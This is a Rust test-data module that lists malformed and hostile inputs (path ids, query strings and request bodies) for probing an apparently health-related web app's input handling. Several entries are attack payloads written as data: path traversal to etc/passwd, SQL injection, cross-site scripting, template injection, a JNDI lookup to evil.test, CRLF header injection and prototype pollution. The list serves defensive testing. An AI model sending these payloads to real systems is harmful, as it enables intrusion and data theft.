//! What may stand in an address, a query or a form instead of what belongs there.

/// Ids as they stand in a path. `{own}` is the launch that is open, `{OWN}` the same in capitals, `{other}` somebody
/// else's, which does not hurt where the id is not a launch's.
pub const IDS: [&str; 48] = [
    "",
    ".",
    "..",
    "%2e%2e",
    "%2e%2e%2f",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%5c..%5cwindows",
    "%252e%252e%252fetc",
    "%2f",
    "a%2fb",
    "%5c%5cevil.test%5cshare",
    "http:%2f%2fevil.test%2f",
    "%00",
    "plan%00",
    "{own}%00",
    "%ff%fe",
    "%c0%ae%c0%ae",
    "%ed%a0%80",
    "%f0%9f%92%89",
    "%e2%80%ae",
    "%ef%bc%90%ef%bc%91%ef%bc%92",
    "\u{e9}\u{df}",
    "LONG",
    "00000000000000000000000000000000",
    "0000000000000000000000000000000",
    "000000000000000000000000000000000",
    "{OWN}",
    "{own}%20",
    "%20{own}",
    "{own}.json",
    "{own},{other}",
    "{other}",
    "%27%20OR%20%271%27=%271",
    "1;DROP%20TABLE%20launches;--",
    "%25%27",
    "%22%3E%3Cscript%3Ealert(1)%3C%2fscript%3E",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "%7B%7B7*7%7D%7D",
    "$%7Bjndi:ldap:%2f%2fevil.test%7D",
    "%0d%0aSet-Cookie:%20evil=1",
    "null",
    "undefined",
    "-1",
    "18446744073709551616",
    "*",
    "%",
    "%zz",
    "Patient%2fp1",
];

/// Queries, behind the question mark.
pub const QUERIES: [&str; 14] = [
    "%ff=%ff",
    "answer=%ff%fe",
    "show=%ff&show=%00",
    "iss=%ff&launch=%ff",
    "code=%ff&state=%ff",
    "at=%ff",
    "answer=%00",
    "a&a&a&&=&=",
    "answer[]=1&answer[x]=2",
    "__proto__=1&constructor=1",
    "state=..%2f..%2f&code=%27%20OR%201=1&error=%3Cscript%3Ealert(1)%3C%2fscript%3E",
    "iss=http:%2f%2fevil.test%2ffhir&launch=x",
    "at=alder-east%00",
    "answer=LONG",
];

/// Bodies with their content types.
pub const BODIES: [(&str, &[u8]); 10] = [
    ("application/x-www-form-urlencoded", b""),
    ("application/x-www-form-urlencoded", b"%ff=%ff&source=%ff"),
    ("application/x-www-form-urlencoded", b"\xff\xfe\x00"),
    ("application/x-www-form-urlencoded", b"item[]=1&item[x][y]=2&target=-1&target=99999999999999999999"),
    ("application/json", br#"{"source":"alder-east","item":"x","member":"y"}"#),
    ("application/json", b"[[[[[[[[[[[[[[[["),
    ("text/plain", b"source=alder-east"),
    (
        "multipart/form-data; boundary=x",
        b"--x\r\nContent-Disposition: form-data; name=\"source\"\r\n\r\nalder-east\r\n--x--",
    ),
    ("application/fhir+json", br#"{"resourceType":"Goal"}"#),
    ("\u{80}", b"source=alder-east"),
];

/// A pattern with the launches of this run in it.
pub fn filled(pattern: &str, own: &str, other: &str) -> String {
    let text = pattern.replace("{own}", own).replace("{OWN}", &own.to_uppercase()).replace("{other}", other);
    text.replace("LONG", &"a".repeat(5000))
}
